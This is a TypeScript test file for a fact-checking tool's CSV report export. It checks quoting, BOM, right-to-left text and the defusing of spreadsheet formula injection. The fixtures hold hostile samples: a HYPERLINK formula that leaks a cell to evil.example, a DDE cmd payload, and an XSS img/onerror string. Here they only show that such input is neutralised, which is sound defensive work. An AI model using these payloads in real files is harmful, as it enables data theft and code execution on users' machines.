import { describe, expect, it } from 'vitest';
import { renderReport } from '.';
import { CSV_COLUMNS, csvField, neutraliseFormula } from './csv';
import { AT, articleOf, hostileArticle, source } from './fixtures/test-articles';

/** A strict RFC 4180 reader: fails on anything the RFC does not allow, so the test checks the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else cell += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote in an unquoted field at ${i}`);
        cell += text[i++];
      }
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length) throw new Error(`expected , or CRLF at ${i}, got ${JSON.stringify(text[i])}`);
  }
  if (row.length) rows.push(row);
  return rows;
}

describe('CSV report', () => {
  const csv = renderReport(hostileArticle(), 'csv', { generatedAt: AT });
  const rows = parseCsv(csv.replace(/^\uFEFF/, ''));
  const byIndex = (n: number) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[n]![i]!]));

  it('is UTF-8 with a BOM, CRLF records and one row per statement under a header', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(1 + hostileArticle().statements.length);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
    expect(rows.slice(1).map((r) => r[0])).toEqual(['1', '2', '3', '4', '5', '6', '7']);
  });

  it('keeps commas, quotes, newlines and markup as text, quoted per RFC 4180', () => {
    expect(byIndex(1)).toMatchObject({
      Statement: 'Mayor <b>Smith</b> says taxes fell 4%.',
      Verdict: 'False',
      Quote: 'Taxes rose 2% <img src=x onerror=alert(1)>',
      'Source title': 'City accounts',
      'Source URL': 'https://city.example/accounts',
      Checker: 'Dana "DC" Cohen',
      Reviewer: 'Sam <i>Ortiz</i>',
      'Checked at': AT.toISOString(),
      'Internal note': 'Checked with the finance office.',
    });
    expect(csv).toContain('"Dana ""DC"" Cohen"');
    expect(byIndex(4).Statement).toBe("'-2+3 is what the leaflet said.\nThen a second line, with a comma.");
    expect(byIndex(3)['Source URL']).toBe('https://council.example/a,b');
  });

  it('neutralises every cell a spreadsheet would run as a formula (OWASP)', () => {
    expect(byIndex(3).Statement).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click"), said the "council", in a statement');
    expect(byIndex(3).Quote).toBe("'+1 555 0100, call now");
    expect(byIndex(3)['Source title']).toBe("'@council");
    expect(byIndex(4)['Internal note']).toBe('\'\t=cmd|" /C calc"!A0');
    for (const row of rows.slice(1)) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('keeps Hebrew and other right-to-left text intact', () => {
    expect(byIndex(5)).toMatchObject({
      Statement: 'ראש העירייה אמר כי המסים ירדו ב-4%.',
      Verdict: 'Mostly accurate',
      Quote: 'המסים עלו ב-2%',
      'Source title': 'דו״ח העירייה',
    });
  });

  it('leaves the accountability columns empty until the data has them, and for unchecked statements', () => {
    expect(byIndex(2)).toMatchObject({ Verdict: 'Unchecked', Checker: '', Reviewer: '', 'Checked at': '' });
    expect(byIndex(7)).toMatchObject({ Verdict: 'Unverifiable', Checker: '', Reviewer: '', 'Checked at': AT.toISOString() });
  });

  it('lists several sources one per line, aligned across the columns', () => {
    const csv2 = renderReport(
      articleOf([
        [
          'A claim.',
          'verified',
          {
            sources: [
              source({ quote: 'first quote', title: 'First', url: 'https://a.example/' }),
              source({ title: 'Second', url: '' }),
              source({ quote: 'third quote', title: 'Third', url: 'https://c.example/' }),
            ],
          },
        ],
      ]),
      'csv',
    );
    const [, row] = parseCsv(csv2.slice(1));
    const cell = (column: (typeof CSV_COLUMNS)[number]) => row![CSV_COLUMNS.indexOf(column)];
    expect([cell('Quote'), cell('Quote check'), cell('Source title'), cell('Source URL')]).toEqual([
      'first quote\n\nthird quote',
      'not checked against a source document\n\nnot checked against a source document',
      'First\nSecond\nThird',
      'https://a.example/\n\nhttps://c.example/',
    ]);
  });

  it('has helpers that do exactly one thing each', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    for (const bad of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '  =1+1', '\n=1', '＝1+1']) {
      expect(neutraliseFormula(bad)).toBe(`'${bad}`);
    }
    for (const fine of ['1+1', 'a=b', 'e-mail', '', '“=”']) expect(neutraliseFormula(fine)).toBe(fine);
  });
});
